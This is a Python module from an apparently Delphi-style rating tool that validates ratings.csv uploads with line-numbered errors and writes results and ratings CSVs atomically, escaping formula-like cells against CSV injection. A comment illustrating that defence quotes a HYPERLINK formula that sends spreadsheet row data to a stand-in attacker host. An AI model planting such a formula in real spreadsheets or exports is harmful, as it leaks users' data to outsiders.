"""The public CSV files of METHODS §6: read and check ratings.csv, write results.csv.

Pure like ``rounds.consensus`` (stdlib, numpy, pandas): the CLI and the web upload both use
it. Problems are reported with the 1-based line of the file (the header is line 1).
"""

from __future__ import annotations

import csv
import io
import math
import os
import re
import tempfile
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import IO, Any

import numpy as np
import pandas as pd

from rounds.consensus import RESULTS_COLUMNS, Scale

RATINGS_COLUMNS: tuple[str, ...] = ("round", "panelist", "group", "item", "criterion", "value")
REQUIRED_COLUMNS = RATINGS_COLUMNS  # group too: it may be empty, but the column must be there
INTEGER = r"0|-?[1-9][0-9]*"  # an integer written as such: not 7.0, +7, 7e0, 07 or " 7"
MAX_SHOWN = 20  # problems listed in an error message

Problem = tuple[int, str, str]  # (line, column, message)
Source = str | os.PathLike[str] | IO[bytes] | IO[str]


class RatingsFileError(ValueError):
    """A ratings file that cannot be used; ``problems`` lists (line, column, message)."""

    def __init__(self, problems: Sequence[Problem]) -> None:
        self.problems = sorted(problems, key=lambda p: (p[0], p[1]))
        super().__init__(self._summary())

    def _summary(self) -> str:
        count = len(self.problems)
        lines = [f"ratings file has {count} problem{'s' if count != 1 else ''}:"]
        for line, column, message in self.problems[:MAX_SHOWN]:
            where = f"line {line}" + (f", column {column}" if column else "")
            lines.append(f"  {where}: {message}")
        if count > MAX_SHOWN:
            lines.append(f"  ... and {count - MAX_SHOWN} more")
        return "\n".join(lines)


# --------------------------------------------------------------------------- reading


def read_ratings_csv(source: Source, scale: Scale | Mapping[str, Scale]) -> pd.DataFrame:
    """Read a ratings.csv (UTF-8, with or without BOM) into a DataFrame with columns
    round (int64), panelist, group, item, criterion (str) and value (float64, NaN for
    don't know). Raises RatingsFileError listing every problem found, with its line."""
    text = _decode(_read_bytes(source))
    header, records, lines = _parse(text)
    frame = pd.DataFrame(records, columns=header, dtype=object)
    problems: list[Problem] = []
    rounds = _rounds(frame, lines, problems)
    values = _values(frame, lines, scale, problems)
    for column in ("panelist", "item", "criterion"):
        _require_text(frame[column], lines, column, problems)
    result = pd.DataFrame({
        "round": rounds,
        "panelist": frame["panelist"].str.strip(),
        "group": frame["group"].str.strip(),
        "item": frame["item"].str.strip(),
        "criterion": frame["criterion"].str.strip(),
        "value": values,
    })  # fmt: skip
    valid = rounds > 0  # rows with an unreadable round are already reported
    problems.extend(_duplicates(result[valid].reset_index(drop=True), lines[valid]))
    if problems:
        raise RatingsFileError(problems)
    return result


def _read_bytes(source: Source) -> bytes:
    if isinstance(source, (str, os.PathLike)):
        return Path(source).read_bytes()
    data = source.read()
    return data.encode("utf-8") if isinstance(data, str) else data


def _decode(data: bytes) -> str:
    try:
        return data.decode("utf-8-sig")
    except UnicodeDecodeError as exc:
        line = data[: exc.start].count(b"\n") + 1
        raise RatingsFileError([(line, "", "not UTF-8 text; save the file as CSV UTF-8")]) from None


def _parse(text: str) -> tuple[list[str], list[list[str]], np.ndarray]:
    """Header, records with the expected number of fields, and each record's first line."""
    reader = csv.reader(io.StringIO(text, newline=""))
    header = [name.strip().lower() for name in next(reader, [])]
    if not header:
        raise RatingsFileError([(1, "", "the file is empty; the first line must be the header "
                                 + ",".join(RATINGS_COLUMNS))])  # fmt: skip
    repeated = sorted({c for c in header if header.count(c) > 1})
    if repeated:
        raise RatingsFileError([(1, c, f"column {c!r} appears twice in the header")
                                for c in repeated])  # fmt: skip
    missing = [c for c in REQUIRED_COLUMNS if c not in header]
    if missing:
        raise RatingsFileError([(1, c, f"missing column {c!r}; the header must name "
                                 + ",".join(RATINGS_COLUMNS)) for c in missing])  # fmt: skip
    records, lines, problems = [], [], []
    previous = reader.line_num
    for row in reader:
        line, previous = previous + 1, reader.line_num
        if not any(field.strip() for field in row):
            continue  # blank line
        if len(row) != len(header):
            problems.append((line, "", f"expected {len(header)} fields, found {len(row)}; "
                             "check for a missing or extra comma"))  # fmt: skip
            continue
        records.append(row)
        lines.append(line)
    if problems:
        raise RatingsFileError(problems)
    if not records:
        raise RatingsFileError([(1, "", "the file has a header but no ratings")])
    return header, records, np.array(lines)


def _rounds(frame: pd.DataFrame, lines: np.ndarray, problems: list[Problem]) -> np.ndarray:
    text = frame["round"].str.strip()
    numbers = pd.to_numeric(text, errors="coerce").to_numpy(dtype=float, na_value=np.nan)
    bad = np.isnan(numbers) | (numbers != np.floor(numbers)) | (numbers < 1)
    for i in np.flatnonzero(bad):
        problems.append((int(lines[i]), "round", f"round {text.iloc[i]!r} is not a round "
                         "number; write a whole number from 1 up"))  # fmt: skip
    return np.where(bad, 0, numbers).astype(np.int64)


def _values(
    frame: pd.DataFrame,
    lines: np.ndarray,
    scale: Scale | Mapping[str, Scale],
    problems: list[Problem],
) -> np.ndarray:
    text = frame["value"]
    given = (text != "").to_numpy()
    integer = text.str.fullmatch(INTEGER).to_numpy(dtype=bool)
    values = pd.to_numeric(text.where(integer)).to_numpy(dtype=float, na_value=np.nan)
    not_number = given & ~integer
    for i in np.flatnonzero(not_number):
        problems.append((int(lines[i]), "value", f"value {text.iloc[i]!r} is not a whole "
                         "number written as such; write an integer on the scale (7, not 7.0, "
                         "+7, 7e0 or ' 7'), or leave it empty for don't know"))  # fmt: skip
    criteria = frame["criterion"].str.strip().to_numpy()
    for criterion in pd.unique(criteria):
        in_crit = criteria == criterion
        if isinstance(scale, Scale):
            crit_scale = scale
        elif criterion in scale:
            crit_scale = scale[criterion]
        else:
            first = int(lines[np.flatnonzero(in_crit)[0]])
            problems.append((first, "criterion", f"criterion {criterion!r} has no scale; "
                             f"known criteria: {', '.join(sorted(scale))}"))  # fmt: skip
            continue
        off = in_crit & given & ~not_number
        off &= (values < crit_scale.min) | (values > crit_scale.max)
        for i in np.flatnonzero(off):
            problems.append((int(lines[i]), "value", f"value {text.iloc[i]} is off the scale "
                             f"{crit_scale.min}-{crit_scale.max} of criterion {criterion!r}; "
                             "ratings are never clipped, correct the value"))  # fmt: skip
    return values


def _require_text(column: pd.Series[Any], lines: np.ndarray, name: str,
                  problems: list[Problem]) -> None:  # fmt: skip
    for i in np.flatnonzero((column.str.strip() == "").to_numpy()):
        problems.append((int(lines[i]), name, f"empty {name}; every rating needs one"))


def _duplicates(frame: pd.DataFrame, lines: np.ndarray) -> Iterable[Problem]:
    keys = ["round", "panelist", "item", "criterion"]
    repeated = frame.duplicated(keys, keep="first").to_numpy()
    if not repeated.any():
        return []
    first_line = pd.Series(lines).groupby([frame[k] for k in keys]).transform("first")
    return [
        (int(lines[i]), "", f"duplicate rating: panelist {frame['panelist'].iloc[i]} already "
         f"rated item {frame['item'].iloc[i]}, criterion {frame['criterion'].iloc[i]} in round "
         f"{frame['round'].iloc[i]} on line {first_line.iloc[i]}; keep one of the two lines")
        for i in np.flatnonzero(repeated)
    ]  # fmt: skip


# --------------------------------------------------------------------------- writing

# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection):
# =HYPERLINK("http://attacker.example/?x="&A2,"Click") in a comment would send the row away.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(text: str) -> str:
    """A text cell that no spreadsheet runs as a formula: one that starts with ``=``, ``+``,
    ``-``, ``@``, tab or carriage return gets a leading apostrophe (OWASP's advice), except
    a plain number (``-1.5`` stays a number). Every CSV the product writes goes through it."""
    if text.startswith(_FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def format_number(value: Any) -> str:
    """A CSV cell: empty for missing, true/false for booleans, integers as such, other
    numbers with 10 significant digits (METHODS §6 asks for at least 6), text made safe for
    spreadsheets (`safe_cell`)."""
    if value is None or value is pd.NA:
        return ""
    if isinstance(value, (bool, np.bool_)):
        return "true" if value else "false"
    if isinstance(value, (int, np.integer)):
        return str(int(value))
    if isinstance(value, (float, np.floating)):
        return "" if math.isnan(value) else f"{float(value):.10g}"
    if isinstance(value, tuple):
        return " ".join(format_number(v) for v in value)
    return safe_cell(str(value))


def write_csv(frame: pd.DataFrame, path: str | os.PathLike[str], columns: Sequence[str]) -> None:
    """Write ``columns`` of ``frame`` atomically (a temporary file, then os.replace)."""
    target = Path(path)
    rows = zip(*(frame[c].tolist() for c in columns), strict=True)
    fd, temp = tempfile.mkstemp(prefix=f".{target.name}.", dir=target.parent)
    try:
        with os.fdopen(fd, "w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle, lineterminator="\n")
            writer.writerow(columns)
            writer.writerows([format_number(v) for v in row] for row in rows)
        os.replace(temp, target)
    except BaseException:
        Path(temp).unlink(missing_ok=True)
        raise


def write_results_csv(results: pd.DataFrame, path: str | os.PathLike[str]) -> None:
    """results.csv: the METHODS §6 columns in order, then ``margin`` if present."""
    extra = ["margin"] if "margin" in results.columns else []
    write_csv(results, path, [*RESULTS_COLUMNS, *extra])


def ratings_csv(ratings: pd.DataFrame) -> bytes:
    """ratings.csv, the one writer: the public columns, values as whole numbers (empty for
    "don't know"), group empty if absent; the export, the data checksums and
    `write_ratings_csv` all use these bytes. Built column by column: each distinct value is
    formatted once, and the rows are joined in C."""
    frame = ratings if "group" in ratings.columns else ratings.assign(group="")
    columns = [_cells(frame[c].tolist()) for c in RATINGS_COLUMNS]
    pieces = [(",".join(RATINGS_COLUMNS) + "\n").encode("utf-8")]
    for start in range(0, len(frame), _ROWS_PER_PIECE):  # no million-row string at once
        rows = zip(*(column[start : start + _ROWS_PER_PIECE] for column in columns), strict=True)
        pieces.append(("\n".join(map(",".join, rows)) + "\n").encode("utf-8"))
    return b"".join(pieces)


_ROWS_PER_PIECE = 100_000


def _cells(values: list[Any]) -> list[str]:
    formatted: dict[Any, str] = {}
    for value in set(values):
        if isinstance(value, (float, np.floating)):
            formatted[value] = "" if math.isnan(value) else str(int(value))
        elif isinstance(value, (int, np.integer)) and not isinstance(value, bool):
            formatted[value] = str(int(value))
        else:
            text = "" if value is None or value is pd.NA else str(value)
            formatted[value] = _quote(safe_cell(text))
    return list(map(formatted.get, values, [""] * len(values)))


def _quote(text: str) -> str:
    """A CSV field as the csv module writes it (minimal quoting)."""
    if any(ch in text for ch in ',"\r\n'):
        return '"' + text.replace('"', '""') + '"'
    return text


def write_ratings_csv(ratings: pd.DataFrame, path: str | os.PathLike[str]) -> None:
    """Write `ratings_csv` to ``path`` atomically."""
    write_bytes(ratings_csv(ratings), path)


def write_bytes(data: bytes, path: str | os.PathLike[str]) -> None:
    """Write ``data`` atomically (a temporary file, then os.replace)."""
    target = Path(path)
    fd, temp = tempfile.mkstemp(prefix=f".{target.name}.", dir=target.parent)
    try:
        with os.fdopen(fd, "wb") as handle:
            handle.write(data)
        os.replace(temp, target)
    except BaseException:
        Path(temp).unlink(missing_ok=True)
        raise
